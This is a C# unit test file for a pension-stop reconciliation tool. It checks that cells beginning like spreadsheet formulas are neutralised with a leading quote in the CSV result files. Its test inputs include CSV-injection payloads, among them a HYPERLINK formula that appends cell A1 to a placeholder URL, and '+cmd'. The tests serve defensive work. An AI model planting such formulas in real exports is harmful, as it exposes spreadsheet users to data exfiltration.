using Hereafter.Domain.Csv;
using Hereafter.Domain.Reconciliation;

namespace Hereafter.Domain.Tests.Csv;

public sealed class CsvFormulaNeutralisationTests : IDisposable
{
    private readonly string _dir = Path.Combine(Path.GetTempPath(), "csv-formula-" + Guid.NewGuid().ToString("N"));

    public void Dispose()
    {
        if (Directory.Exists(_dir))
        {
            Directory.Delete(_dir, recursive: true);
        }
    }

    [Theory]
    [InlineData("=HYPERLINK(\"http://x.example/?\"&A1,\"看\")", "'=HYPERLINK(\"http://x.example/?\"&A1,\"看\")")]
    [InlineData("+1+2", "'+1+2")]
    [InlineData("-2+3", "'-2+3")]
    [InlineData("@SUM(A1:A2)", "'@SUM(A1:A2)")]
    [InlineData("\t=1+1", "'\t=1+1")]
    [InlineData("\r=1+1", "'\r=1+1")]
    public void ACellThatStartsLikeAFormula_GetsALeadingQuote(string value, string written) =>
        Assert.Equal(written, CsvCell.Neutralise(value));

    [Theory]
    [InlineData("张三")]
    [InlineData("John Smith")]
    [InlineData("a=b")]
    [InlineData(" =1")]
    [InlineData("'=1")]
    [InlineData("")]
    [InlineData("6222020000000001")]
    public void OtherCells_AreUnchanged(string value) => Assert.Equal(value, CsvCell.Neutralise(value));

    [Fact]
    public void ResultFiles_NeutraliseTextCells_ButKeepAmountsAsNumbers()
    {
        var entry = new RollEntry(2, "520102195003070016", "=HYPERLINK(\"http://x.example\",\"点我\")", "-pension", "@acct",
            -12.50m, new YearMonth(2026, 6), SuspectId: false);
        var death = new Death("520102195003070016", "张三", null, new DateOnly(2026, 3, 15));
        var terms = new StopTerms(new YearMonth(2026, 4), -1, -12.50m);
        using (var sink = new ResultFilesSink(_dir))
        {
            sink.Stop(new StopRow(entry, death, terms));
            sink.Review(new ReviewRow(entry with { Name = "+cmd" }, ReviewReason.IdMatchNameDiffers, death with { Name = "-张三" }, terms));
            sink.Reject(new RejectedRow(3, "=1+1"));
            sink.WriteSummary(new ReconciliationSummary(3, 1, 1, 1, 0, -1, -12.50m, []));
        }

        Assert.Equal(
            ResultFilesSink.StopsHeader + "\n"
            + "2,520102195003070016,\"'=HYPERLINK(\"\"http://x.example\"\",\"\"点我\"\")\",'-pension,'@acct,-12.50,2026-06,2026-03-15,2026-04,-1,-12.50,false\n",
            File.ReadAllText(Path.Combine(_dir, ResultFilesSink.StopsFile)));
        Assert.Equal(
            ResultFilesSink.ReviewHeader + "\n"
            + "2,id-match-name-differs,520102195003070016,'+cmd,'-pension,'@acct,-12.50,2026-06,false,520102195003070016,'-张三,2026-03-15,2026-04,-1,-12.50\n",
            File.ReadAllText(Path.Combine(_dir, ResultFilesSink.ReviewFile)));
        Assert.Equal("row,reason\n3,'=1+1\n", File.ReadAllText(Path.Combine(_dir, ResultFilesSink.RejectedFile)));
    }

    [Fact]
    public void AnIntermediateForAWorkbook_CanKeepTheTextAsItIs()
    {
        var entry = new RollEntry(2, "520102195003070016", "=1+1", "pension", null, 10m, new YearMonth(2026, 6), SuspectId: false);
        using (var sink = new ResultFilesSink(_dir, neutraliseFormulas: false))
        {
            sink.Stop(new StopRow(entry, new Death(entry.IdNumber, "张三", null, new DateOnly(2026, 3, 15)), new StopTerms(new YearMonth(2026, 4), 2, 20m)));
            sink.WriteSummary(new ReconciliationSummary(1, 1, 0, 0, 0, 2, 20m, []));
        }

        Assert.Contains(",=1+1,", File.ReadAllText(Path.Combine(_dir, ResultFilesSink.StopsFile)));
    }
}
